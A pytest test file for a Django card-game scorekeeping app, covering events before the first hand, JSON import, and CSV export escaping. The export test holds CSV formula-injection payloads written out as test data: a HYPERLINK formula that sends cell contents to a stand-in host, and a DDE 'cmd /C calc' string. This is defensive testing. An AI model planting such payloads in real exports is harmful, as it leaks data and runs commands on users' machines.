"""What a scorekeeper or a table file can put in, and what comes back out: events before the first
hand, the spreadsheet export's text cells, the import's size and date limits, and the characters a
name may hold."""

import csv
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from games import services
from games.models import HandChange, Table
from tests.fixtures import csrf_post, document, page, seeded

FOUR = ["Asha", "Bikash", "Chandra", "Dipa"]


def upload(client, table_file):
    data = table_file if isinstance(table_file, bytes) else json.dumps(table_file).encode()
    return csrf_post(client, reverse("import_file"),
                     {"file": SimpleUploadedFile("table.json", data, content_type="application/json")})


def pages_of(client, table):
    """Every page of the table answers (no 500 anywhere its events are shown)."""
    for name in ("table", "seats", "history", "export", "export_csv"):
        assert client.get(reverse(name, args=[table.keeper_token])).status_code == 200, name


# --- events before the first hand -------------------------------------------------------------

BEFORE_THE_FIRST_HAND = [
    {"kind": "join", "player": "Eka", "seat": "2", "score": "0"},
    {"kind": "leave", "player": "Dipa"},
    {"kind": "dealer", "player": "Bikash"},
    {"kind": "adjust", "reason": "pizza", "points-0": "-3", "points-1": "1", "points-2": "1", "points-3": "1"},
]


@pytest.mark.parametrize("data", BEFORE_THE_FIRST_HAND, ids=lambda data: data["kind"])
def test_an_event_before_the_first_hand_is_taken_and_kept_in_the_history(client, owner, data):
    table = seeded(owner, "marriage", [], players=FOUR)
    response = csrf_post(client, reverse("seats", args=[table.keeper_token]), data)
    assert response.status_code == 302
    table.refresh_from_db()
    assert [event["after"] for event in table.events] == [0]
    assert list(table.changes.values_list("action", "number")) == [(HandChange.EVENT, 0)]
    pages_of(client, table)
    response = csrf_post(client, reverse("take_back_event", args=[table.keeper_token, 0]))
    assert response.status_code == 302
    assert Table.objects.get(pk=table.pk).events == []


def test_a_file_with_events_before_the_first_hand_imports(client):
    events = [{"after": 0, "kind": "join", "player": "Eka", "seat": 1},
              {"after": 0, "kind": "leave", "player": "Dipa"},
              {"after": 0, "kind": "dealer", "player": "Bikash"},
              {"after": 0, "kind": "adjust", "points": {"Asha": 1, "Eka": -1, "Bikash": 0, "Chandra": 0},
               "reason": "pizza"}]
    assert upload(client, document("marriage", FOUR, [], events=events)).status_code == 302
    table = Table.objects.get()
    assert table.events == [{**events[0], "score": 0}, *events[1:]]
    pages_of(client, table)


# --- the spreadsheet export -------------------------------------------------------------------

LINK = '=HYPERLINK("http://x.io/"&A1,"Asha")'
TRICKY = [LINK, "+Bikash", "@Chandra", "-Dipa"]


def test_the_spreadsheet_writes_text_that_looks_like_a_formula_as_text_and_numbers_as_numbers(client, owner):
    hand = {name: {"status": "winner" if name == LINK else "seen", "maal": 5} for name in TRICKY}
    events = [{"after": 1, "kind": "adjust", "reason": "=1+1 pizza",
               "points": {LINK: -20, "+Bikash": 5, "@Chandra": 5, "-Dipa": 10}},
              {"after": 1, "kind": "join", "player": "=Eka", "seat": 4}]
    table = seeded(owner, "marriage", [hand], players=TRICKY, events=events)
    services.set_note(table, 1, "@SUM(1+1)*cmd|' /C calc'!A0")
    rows = list(csv.reader(io.StringIO(client.get(reverse("export_csv", args=[table.keeper_token])).content
                                       .decode())))
    header, first, adjusted, joined, totals = rows
    assert header == ["Hand", *(f"'{name}" for name in TRICKY), "'=Eka", "Note"]
    assert first[-1] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert adjusted[1:6] == ["-20", "5", "5", "10", ""] and adjusted[-1].startswith("'=1+1 pizza: ")
    assert joined[-1].startswith("'=Eka sat down")
    assert totals[0] == "Total" and all(cell.lstrip("-").isdigit() for cell in totals[1:])
    assert any(cell.startswith("-") for cell in totals[1:])  # a negative total, still a number
